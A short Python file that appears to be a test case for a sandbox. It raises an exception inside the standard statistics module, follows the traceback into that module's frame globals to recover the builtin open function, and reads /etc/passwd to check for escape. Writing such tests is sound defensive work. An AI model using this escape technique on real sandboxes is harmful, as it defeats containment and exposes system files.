# tries: an exception that passes through library code carries its frames
# class: exceptions
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import statistics


class N(float):
    def __add__(self, other):
        raise KeyError

    def as_integer_ratio(self):
        raise KeyError("mine")


try:
    statistics.mean([N(1), N(2)])
except KeyError as error:
    trace = error.__traceback__.tb_next
    use(dig(trace.tb_frame.f_globals))
